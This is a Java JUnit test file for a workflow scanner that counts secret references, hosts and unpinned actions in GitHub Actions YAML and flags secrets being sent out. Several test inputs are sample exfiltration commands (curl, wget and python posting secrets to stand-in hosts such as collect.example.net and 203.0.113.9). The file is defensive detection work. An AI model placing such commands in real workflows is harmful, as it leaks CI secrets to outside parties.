package dev.pubwatch.cli.git;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class WorkflowTextTest {
  private static final String PUBLISH =
      """
      name: publish
      on: push
      # was https://old.example.org and ${{ secrets.OLD }}
      jobs:
        publish:
          env:
            TOKEN: ${{ secrets.PYPI_TOKEN }} # https://comment.example
          steps:
            - uses: actions/checkout@v4
            - uses: "acme/build@5acdeadbeef64d1a62388e901e5cdc9358644b37"
            - uses: ./.github/actions/own
            - uses: docker://alpine:3
            - run: |
                curl https://Files.Example.com:8443/x.tgz -o x.tgz
                twine upload --password ${{ secrets.PYPI_TOKEN }} dist/*
      """;

  @Test
  void saysWhatAWorkflowNames() {
    WorkflowText text = WorkflowText.of(PUBLISH);
    assertEquals(2, text.secretRefs());
    assertEquals(Set.of("comment.example", "files.example.com"), text.hosts());
    assertEquals(2, text.unpinnedActions());
    assertFalse(text.sendsSecrets(), "the secret goes to twine, and no secret to curl");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "      - run: curl -s -X POST -d 'k=${{ secrets.KEY }}' https://collect.example.net/in",
        "env:\n  KEY: ${{secrets.KEY}}\nrun: wget --post-data=\"$KEY\" http://203.0.113.9/",
        "env:\n  KEY: ${{ secrets.KEY }}\nrun: |\n  curl \\\n    -d \"${KEY}\" \\\n    https://c.example",
        "- run: python -c \"import requests; requests.post('https://x.example',data='${{ secrets.A }}')\"",
        "- run: curl -d '${{ toJSON(secrets) }}' https://x.example",
      })
  void seesSecretsOnTheirWayOut(String workflow) {
    assertTrue(WorkflowText.of(workflow).sendsSecrets(), workflow);
  }

  @Test
  void twoFilesAddUp() {
    WorkflowText both =
        WorkflowText.of(PUBLISH)
            .and(WorkflowText.of("run: curl https://b.example/${{ secrets.B }}"));
    assertEquals(3, both.secretRefs());
    assertEquals(Set.of("b.example", "comment.example", "files.example.com"), both.hosts());
    assertTrue(both.sendsSecrets());
  }

  @Test
  void hostileTextIsReadInTime() {
    String long1 = "${{ ".repeat(50_000) + "\n" + "https://".repeat(50_000) + "\n";
    String long2 = "a \\\n".repeat(100_000) + " ".repeat(100_000) + "uses" + "\n-".repeat(50_000);
    assertEquals(0, WorkflowText.of(long1 + long2).secretRefs());
  }
}
